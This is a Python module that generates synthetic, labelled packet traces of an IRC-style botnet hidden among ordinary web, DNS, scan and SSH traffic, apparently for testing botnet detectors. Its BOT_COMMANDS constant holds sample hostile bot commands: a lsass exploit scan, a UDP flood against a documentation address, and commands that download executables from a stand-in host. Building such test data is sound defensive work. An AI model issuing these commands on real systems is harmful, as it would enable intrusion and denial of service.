"""Seeded synthetic scenarios: an IRC-style botnet hidden in ordinary web traffic."""

from __future__ import annotations

import json
import random
import struct
from dataclasses import dataclass
from typing import Optional

from .errors import InvalidConfig, Unwritable
from .ingest import (
    ETHERTYPE_IPV4,
    IPPROTO_TCP,
    IPPROTO_UDP,
    LINKTYPE_ETHERNET,
    PCAP_MAGIC,
    normalize_trace,
    quantize_ts,
    ts_to_micros,
)
from .model import (
    TCP_FLAG_BITS,
    TCP_FLAGS,
    Endpoint,
    FlowKey,
    PacketRecord,
    Trace,
    Transport,
    int_to_ip,
    ip_to_int,
)

BASE_TS = 1_600_000_000.0
CONTROLLER_IP = "10.0.0.1"
BOT_NET = "10.0.1."
BACKGROUND_NET = "10.0.2."
SERVER_NET = "93.184.216."
RESOLVER_IP = SERVER_NET + "53"
IRC_PORT = 6667
N_WEB_SERVERS = 20
MAX_HOSTS = 250

TCP_OVERHEAD = 14 + 20 + 20
UDP_OVERHEAD = 14 + 20 + 8
IPPROTO_OTHER = 255

BOT_COMMANDS = (".advscan lsass 100 5 0 -r", "!ddos udp 203.0.113.7 80 300", ".update http://198.51.100.9/b.exe",
                ".sysinfo", ".download http://198.51.100.9/x.bin")


@dataclass(frozen=True)
class ScenarioConfig:
    n_bots: int = 8
    n_background_hosts: int = 50
    duration_s: float = 900.0
    c2_msg_period_s: float = 20.0
    c2_jitter_s: float = 0.3
    background_flows_per_host: int = 6
    seed: int = 0
    scan_prob: float = 0.3
    interactive_prob: float = 0.15

    def validate(self) -> None:
        problems = []
        if not 0 <= self.n_bots <= MAX_HOSTS:
            problems.append(f"n_bots must be in 0..{MAX_HOSTS}")
        if not 0 <= self.n_background_hosts <= MAX_HOSTS:
            problems.append(f"n_background_hosts must be in 0..{MAX_HOSTS}")
        if not self.duration_s > 0:
            problems.append("duration_s must be > 0")
        if not self.c2_msg_period_s > 0:
            problems.append("c2_msg_period_s must be > 0")
        if not self.c2_jitter_s >= 0:
            problems.append("c2_jitter_s must be >= 0")
        if self.background_flows_per_host < 0:
            problems.append("background_flows_per_host must be >= 0")
        for name in ("scan_prob", "interactive_prob"):
            if not 0 <= getattr(self, name) <= 1:
                problems.append(f"{name} must be in [0, 1]")
        if problems:
            raise InvalidConfig("; ".join(problems))


@dataclass(frozen=True)
class GroundTruth:
    controller_ip: Optional[int]
    bot_ips: frozenset = frozenset()
    c2_flow_keys: frozenset = frozenset()

    def to_dict(self) -> dict:
        return {
            "controller_ip": int_to_ip(self.controller_ip) if self.controller_ip is not None else None,
            "bot_ips": [int_to_ip(ip) for ip in sorted(self.bot_ips)],
            "c2_flow_keys": [k.to_dict() for k in sorted(self.c2_flow_keys)],
        }

    @classmethod
    def from_dict(cls, d: dict) -> "GroundTruth":
        ctrl = d.get("controller_ip")
        return cls(
            ip_to_int(ctrl) if ctrl is not None else None,
            frozenset(ip_to_int(ip) for ip in d["bot_ips"]),
            frozenset(FlowKey.from_dict(k) for k in d["c2_flow_keys"]),
        )


class _Builder:
    """Accumulates packets; all times are offsets from BASE_TS."""

    def __init__(self, horizon: float):
        self.packets: list = []
        self.horizon = horizon

    def tcp(self, t, src, dst, flags=(), payload=b"", wire_len=None):
        if t > self.horizon:
            return
        if wire_len is None:
            wire_len = TCP_OVERHEAD + len(payload)
        self.packets.append(PacketRecord(quantize_ts(BASE_TS + t), src, dst, Transport.TCP,
                                         frozenset(flags), payload, wire_len))

    def udp(self, t, src, dst, payload):
        if t > self.horizon:
            return
        self.packets.append(PacketRecord(quantize_ts(BASE_TS + t), src, dst, Transport.UDP,
                                         frozenset(), payload, UDP_OVERHEAD + len(payload)))

    def handshake(self, t, client, server, rtt):
        self.tcp(t, client, server, {"SYN"})
        self.tcp(t + rtt, server, client, {"SYN", "ACK"})
        self.tcp(t + 2 * rtt, client, server, {"ACK"})
        return t + 2 * rtt


def _padded(text: str, size: int) -> bytes:
    raw = text.encode()
    if len(raw) >= size:
        return raw[:size]
    return raw + b" " * (size - len(raw) - 2) + b"\r\n" if size - len(raw) >= 2 else raw + b" " * (size - len(raw))


def dns_query_payload(txid: int, name: str) -> bytes:
    header = struct.pack("!HHHHHH", txid & 0xFFFF, 0x0100, 1, 0, 0, 0)
    qname = b"".join(bytes([len(label)]) + label.encode("ascii") for label in name.split(".")) + b"\x00"
    return header + qname + struct.pack("!HH", 1, 1)


def _dns_response_payload(query: bytes) -> bytes:
    answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + bytes([93, 184, 216, 34])
    return query[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + query[12:] + answer


def _c2_conversation(b: _Builder, rng: random.Random, cfg: ScenarioConfig, bot: Endpoint,
                     ctrl: Endpoint, nick: str, command_times: list):
    rtt = rng.uniform(0.02, 0.08)
    t = b.handshake(rng.uniform(0.0, min(10.0, cfg.duration_s / 4)), bot, ctrl, rtt)
    b.tcp(t + 0.01, bot, ctrl, {"PSH", "ACK"}, f"NICK {nick}\r\nUSER {nick} 0 * :{nick}\r\n".encode())
    b.tcp(t + 0.01 + rtt, ctrl, bot, {"PSH", "ACK"}, f":irc.local 001 {nick} :Welcome\r\n".encode())
    b.tcp(t + 0.05 + rtt, bot, ctrl, {"PSH", "ACK"}, b"JOIN #cc\r\n")
    for tk, kind, command in command_times:
        sent = tk + rng.uniform(-cfg.c2_jitter_s, cfg.c2_jitter_s)
        if sent <= t + 0.1:
            continue
        if kind == "PING":
            msg = _padded(f"PING :irc.local {rng.randrange(10**6)}", rng.randint(40, 160))
            reply = _padded(f"PONG :irc.local {nick}", rng.randint(40, 160))
        else:
            msg = _padded(f":master!m@cc PRIVMSG #cc :{command}", rng.randint(40, 160))
            reply = _padded(f"PRIVMSG #cc :{nick} ok {command.split()[0]}", rng.randint(40, 160))
        b.tcp(sent, ctrl, bot, {"PSH", "ACK"}, msg)
        answer = sent + rng.uniform(0.05, 0.9)
        b.tcp(answer, bot, ctrl, {"PSH", "ACK"}, reply)
        b.tcp(answer + rtt, ctrl, bot, {"ACK"})


def _web_visit(b: _Builder, rng: random.Random, client_ip: int, port: int, t: float, txid: int):
    site = rng.randrange(N_WEB_SERVERS)
    server = Endpoint(ip_to_int(SERVER_NET + str(site + 1)), 80 if rng.random() < 0.85 else 8080)
    name = f"www.site{site}.example"
    q = dns_query_payload(txid, name)
    resolver = Endpoint(ip_to_int(RESOLVER_IP), 53)
    dns_client = Endpoint(client_ip, port + 1)
    b.udp(t, dns_client, resolver, q)
    t += rng.uniform(0.005, 0.05)
    b.udp(t, resolver, dns_client, _dns_response_payload(q))

    client = Endpoint(client_ip, port)
    rtt = rng.uniform(0.01, 0.1)
    t = b.handshake(t + 0.01, client, server, rtt)
    path = "/" + "".join(rng.choice("abcdefghijklmnop") for _ in range(rng.randint(1, 40)))
    get = (f"GET {path} HTTP/1.1\r\nHost: site{site}.example\r\nUser-Agent: Mozilla/5.0\r\n"
           f"Accept: */*\r\n\r\n").encode()
    b.tcp(t + 0.001, client, server, {"PSH", "ACK"}, get)
    t += rtt
    for i in range(rng.randint(3, 20)):
        wire = rng.randint(400, 1500)
        body_len = wire - TCP_OVERHEAD
        head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" if i == 0 else b""
        body = (head + bytes(rng.getrandbits(8) for _ in range(16)) * (body_len // 16 + 1))[:body_len]
        t += rng.uniform(0.001, 0.05)
        b.tcp(t, server, client, {"ACK"} if i else {"PSH", "ACK"}, body, wire)
        if i % 2:
            b.tcp(t + 0.0005, client, server, {"ACK"})
    t += rng.uniform(0.01, 0.5)
    b.tcp(t, client, server, {"FIN", "ACK"})
    b.tcp(t + rtt, server, client, {"FIN", "ACK"})
    b.tcp(t + 2 * rtt, client, server, {"ACK"})


def _failed_scan(b: _Builder, rng: random.Random, client_ip: int, port: int, t: float):
    client = Endpoint(client_ip, port)
    target = Endpoint(ip_to_int(SERVER_NET + str(rng.randint(1, N_WEB_SERVERS))), rng.choice((23, 445, 3389, 8443)))
    b.tcp(t, client, target, {"SYN"})
    b.tcp(t + rng.uniform(0.01, 0.1), target, client, {"RST", "ACK"})


def _interactive_session(b: _Builder, rng: random.Random, cfg: ScenarioConfig, client_ip: int, port: int):
    """A long, quiet, small-packet session (think SSH): chat-like but not synchronized."""
    client = Endpoint(client_ip, port)
    server = Endpoint(ip_to_int(SERVER_NET + str(rng.randint(1, N_WEB_SERVERS))), 22)
    length = rng.uniform(min(120.0, cfg.duration_s), cfg.duration_s)
    t = rng.uniform(0.0, cfg.duration_s - length)
    end = t + length
    rtt = rng.uniform(0.01, 0.1)
    t = b.handshake(t, client, server, rtt)
    while True:
        t += rng.expovariate(1.0 / 15.0)
        if t >= end:
            break
        b.tcp(t, client, server, {"PSH", "ACK"}, bytes(rng.getrandbits(8) for _ in range(rng.randint(36, 120))))
        b.tcp(t + rtt, server, client, {"PSH", "ACK"}, bytes(rng.getrandbits(8) for _ in range(rng.randint(36, 120))))


def generate_scenario(cfg: ScenarioConfig = ScenarioConfig()) -> tuple:
    """Build ``(trace, ground_truth)`` from ``cfg``; every random draw comes from ``cfg.seed``."""
    cfg.validate()
    rng = random.Random(cfg.seed)
    b = _Builder(cfg.duration_s)

    controller_ip = ip_to_int(CONTROLLER_IP) if cfg.n_bots else None
    bot_ips = []
    keys = []
    if cfg.n_bots:
        ctrl = Endpoint(controller_ip, IRC_PORT)
        schedule = []
        t = cfg.c2_msg_period_s
        while t < cfg.duration_s:
            kind = "PING" if rng.random() < 0.25 else "CMD"
            schedule.append((t, kind, rng.choice(BOT_COMMANDS)))
            t += cfg.c2_msg_period_s
        for i in range(cfg.n_bots):
            bot = Endpoint(ip_to_int(BOT_NET + str(i + 1)), rng.randint(40000, 60000))
            bot_ips.append(bot.ip)
            keys.append(FlowKey.of(bot, ctrl, Transport.TCP))
            _c2_conversation(b, rng, cfg, bot, ctrl, f"bot{i:03d}", schedule)

    for h in range(cfg.n_background_hosts):
        ip = ip_to_int(BACKGROUND_NET + str(h + 1))
        port = rng.randint(32768, 50000)
        for _ in range(cfg.background_flows_per_host):
            _web_visit(b, rng, ip, port, rng.uniform(0.0, max(cfg.duration_s - 10.0, 0.0)), rng.randrange(1 << 16))
            port += 2
        if rng.random() < cfg.scan_prob:
            for _ in range(rng.randint(1, 3)):
                _failed_scan(b, rng, ip, port, rng.uniform(0.0, cfg.duration_s))
                port += 1
        if rng.random() < cfg.interactive_prob:
            _interactive_session(b, rng, cfg, ip, port)
            port += 1

    truth = GroundTruth(controller_ip, frozenset(bot_ips), frozenset(keys))
    return normalize_trace(b.packets), truth


def _mac(ip: int) -> bytes:
    return b"\x02\x00" + ip.to_bytes(4, "big")


def _ipv4_checksum(header: bytes) -> int:
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def encode_frame(pkt: PacketRecord, ident: int = 0) -> bytes:
    """Ethernet/IPv4 framing of a packet record, as ``read_pcap`` expects it."""
    if pkt.transport is Transport.TCP:
        flags = sum(TCP_FLAG_BITS[f] for f in pkt.tcp_flags)
        l4 = struct.pack("!HHIIBBHHH", pkt.src.port, pkt.dst.port, 0, 0, 5 << 4, flags, 65535, 0, 0)
        proto = IPPROTO_TCP
    elif pkt.transport is Transport.UDP:
        l4 = struct.pack("!HHHH", pkt.src.port, pkt.dst.port, 8 + len(pkt.payload), 0)
        proto = IPPROTO_UDP
    else:
        if pkt.src.port or pkt.dst.port:
            raise ValueError("ports cannot be encoded for non-TCP/UDP packets")
        l4 = b""
        proto = IPPROTO_OTHER
    total_len = 20 + len(l4) + len(pkt.payload)
    if total_len > 0xFFFF:
        raise ValueError("packet too large for IPv4")
    ip = struct.pack("!BBHHHBBHII", 0x45, 0, total_len, ident & 0xFFFF, 0x4000, 64, proto, 0,
                     pkt.src.ip, pkt.dst.ip)
    ip = ip[:10] + struct.pack("!H", _ipv4_checksum(ip)) + ip[12:]
    eth = _mac(pkt.dst.ip) + _mac(pkt.src.ip) + struct.pack("!H", ETHERTYPE_IPV4)
    return eth + ip + l4 + pkt.payload


def write_pcap(trace: Trace, path) -> None:
    """Classic microsecond PCAP in native byte order, Ethernet link type."""
    chunks = [struct.pack("=IHHiIII", PCAP_MAGIC, 2, 4, 0, 0, 65535, LINKTYPE_ETHERNET)]
    for n, pkt in enumerate(trace.packets):
        frame = encode_frame(pkt, n)
        if pkt.wire_len < len(frame):
            raise ValueError(f"packet {n}: wire_len {pkt.wire_len} shorter than its {len(frame)}-byte frame")
        sec, usec = divmod(ts_to_micros(pkt.ts), 1_000_000)
        chunks.append(struct.pack("=IIII", sec, usec, len(frame), pkt.wire_len))
        chunks.append(frame)
    try:
        with open(path, "wb") as fh:
            fh.write(b"".join(chunks))
    except OSError as exc:
        raise Unwritable(f"cannot write {path}: {exc}") from exc


def packet_to_json(pkt: PacketRecord) -> str:
    return json.dumps({
        "ts": pkt.ts,
        "src": str(pkt.src),
        "dst": str(pkt.dst),
        "transport": pkt.transport.value,
        "flags": [f for f in TCP_FLAGS if f in pkt.tcp_flags],
        "payload": pkt.payload.hex(),
        "wire_len": pkt.wire_len,
    })


def write_jsonl(trace: Trace, path) -> None:
    try:
        with open(path, "w", encoding="utf-8") as fh:
            for pkt in trace.packets:
                fh.write(packet_to_json(pkt))
                fh.write("\n")
    except OSError as exc:
        raise Unwritable(f"cannot write {path}: {exc}") from exc


def write_ground_truth(truth: GroundTruth, path) -> None:
    try:
        with open(path, "w", encoding="utf-8") as fh:
            json.dump(truth.to_dict(), fh, indent=2)
            fh.write("\n")
    except OSError as exc:
        raise Unwritable(f"cannot write {path}: {exc}") from exc
